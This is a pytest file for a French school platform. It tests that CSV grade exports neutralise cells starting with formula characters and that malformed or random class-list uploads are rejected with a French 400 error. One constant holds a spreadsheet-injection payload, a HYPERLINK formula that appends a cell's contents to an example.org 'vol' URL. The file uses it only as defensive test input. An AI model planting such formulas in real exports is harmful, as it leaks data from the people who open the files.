"""CSV in and out: exported cells never start a formula; any malformed import is a French 400."""

from __future__ import annotations

import csv
import io
import random

import pytest
from starlette.testclient import TestClient

from collab.accounts.administration import parse_class_list
from collab.errors import InvalidInput
from collab.followup.exports import spreadsheet_cell
from collab.settings import Settings
from tests.support.data import school_id, user_count
from tests.support.web import AsWho, DemoSchool, csrf_from

FORMULA = '=HYPERLINK("http://example.org/vol?d="&A1;"Clique")'


def test_a_pupil_named_like_a_formula_is_exported_as_text(as_who: AsWho, school: DemoSchool) -> None:
    teacher = as_who("teacher")
    roster = f"/enseignant/classe/{school.class_id}"
    csrf = csrf_from(teacher.get(roster).text)
    renamed = teacher.post(f"{roster}/eleves/{school.lea_id}/prenom", data={"csrf": csrf, "name": FORMULA})
    assert renamed.status_code == 303
    exported = teacher.get(f"/enseignant/tache/{school.dictation_task_id}/notes.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(exported), delimiter=";"))
    [names] = [row[1] for row in rows if "HYPERLINK" in row[1]]
    assert names.startswith("'=HYPERLINK(")  # shown as typed, never run
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_cell("Léa " + start) == "Léa " + start
    assert spreadsheet_cell(-3) == -3


def _import(client: TestClient, settings: Settings, class_id: int, data: bytes) -> tuple[int, str]:
    page = client.get(f"/admin/ecole/{school_id(settings)}")
    response = client.post(
        f"/admin/ecole/{school_id(settings)}/import",
        data={"csrf": csrf_from(page.text), "class_id": str(class_id)},
        files={"file": ("liste.csv", data, "text/csv")},
        headers={"accept": "text/html"},
    )
    return response.status_code, response.text


MALFORMED = {
    "binary": bytes(range(1, 256)) * 100,
    "latin1 garbage": "Élève;Zoë\n".encode("utf-16"),
    "utf-16 without nulls": b"\xff\xfe" + "Léa".encode("utf-16-le").replace(b"\x00", b"\x01"),
    "too many columns": (";".join(["Léa"] * 500) + "\n").encode(),
    "empty": b"",
    "only separators": b";;;;\n,,,\n\n",
    "huge line": b"L" * 150_000 + b"\n",
    "huge quoted field": b'"' + b"a;b\n" * 40_000 + b'"\n',
    "unterminated quote": b'"L\xc3\xa9a;Martin\nNo\xc3\xa9;"Bernard\n',
    "lone carriage returns": b"L\xc3\xa9a\rNo\xc3\xa9\r\x0bZo\xc3\xa9\x1c",
    "too many rows": "\n".join(f"Élève {i}" for i in range(5000)).encode(),
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_a_malformed_class_list_is_a_french_400(
    as_who: AsWho, settings: Settings, school: DemoSchool, name: str
) -> None:
    admin = as_who("admin")
    before = user_count(settings)
    status, page = _import(admin, settings, school.other_class_id, MALFORMED[name])
    if status != 303:  # a few odd files still hold names: imported, fine; else a French 400
        assert status == 400, (name, status)
        assert any(word in page for word in ("fichier", "ligne", "prénom", "élèves", "illisible")), page[:500]
    else:
        assert user_count(settings) != before


def test_random_bytes_never_break_the_parser() -> None:
    rng = random.Random(12)
    alphabet = b'abc\xc3\xa9;,"\n\r\t \x00\xff\x80'
    for _ in range(3000):
        data = bytes(rng.choice(alphabet) for _ in range(rng.randrange(0, 400)))
        try:
            names = parse_class_list(data)
        except InvalidInput as exc:
            assert exc.status == 400 and exc.public_message
        else:
            assert 0 < len(names) <= 60
